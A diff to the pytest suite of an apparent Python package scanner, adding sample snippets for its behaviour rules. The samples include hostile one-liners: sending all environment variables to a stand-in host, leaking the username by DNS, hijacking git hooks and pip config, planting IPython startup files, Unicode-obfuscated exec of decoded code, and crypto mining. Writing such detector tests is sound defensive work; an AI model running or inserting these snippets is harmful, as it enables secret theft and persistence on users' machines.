@@ -4,7 +4,7 @@
 
 import pytest
 
-from package_gate.scanners.behaviour import RULES
+from package_gate.scanners.behaviour import LOOK, RULES
 from package_gate.scanners.behaviour.rules import behaviours
 
 HARMLESS = "cHJpbnQoJ2hhcm1sZXNzIGZpbGxlcicpCg=="
@@ -137,6 +137,28 @@ DOES: list[tuple[str, str]] = [
         "changes-other-packages",
         "import site\nfor folder in site.getsitepackages():\n    open(folder + '/a.py', 'a').write('')",
     ),
+    (
+        "changes-tools",
+        "import os\nopen(os.path.expanduser('~/.config/pip/pip.conf'), 'w').write('[global]')",
+    ),
+    ("changes-tools", "import os\nos.system('git config --global core.hooksPath /tmp/h')"),
+    (
+        "starts-again-by-itself",
+        "from pathlib import Path\n(Path.home() / '.ipython/profile_default/startup/a.py').write_text('x')",
+    ),
+    (
+        "sends-host-facts",
+        "import getpass, socket\nsocket.create_connection((getpass.getuser() + '.a.example', 80))",
+    ),
+    (
+        "sends-secrets",
+        "import os, requests\ns = requests.Session()\ns.headers.update({'X': str(dict(os.environ))})\n"
+        "s.get('https://a.example')",
+    ),
+    (
+        "runs-decoded-code",
+        "import base64\n\uff45\uff58\uff45\uff43(base64.b64decode('aW1wb3J0IG9z'))",
+    ),
     ("publishes-packages", "import subprocess\nsubprocess.run('twine upload dist/*', shell=True)"),
     ("mines", "import os\nos.system('./x -o stratum+tcp://pool.example:3333')"),
 ]
@@ -195,8 +217,12 @@ def test_what_the_rule_is_for(rule: str, source: str) -> None:
 
 def test_every_rule_has_an_example() -> None:
     of_files = {"unusual-encoding", "unreadable-code", "not-python", "runs-own-data"}
-
+    of_files |= {"hides-its-code", "runs-when-unpickled"}
     assert RULES.keys() - {rule for rule, _ in DOES} == {"acts-at-every-start"} | of_files
+
+
+def test_every_rule_says_what_to_look_at() -> None:
+    assert LOOK.keys() == RULES.keys()
 
 
 def test_what_runs_at_every_start_of_python_has_no_business_with_the_network() -> None:
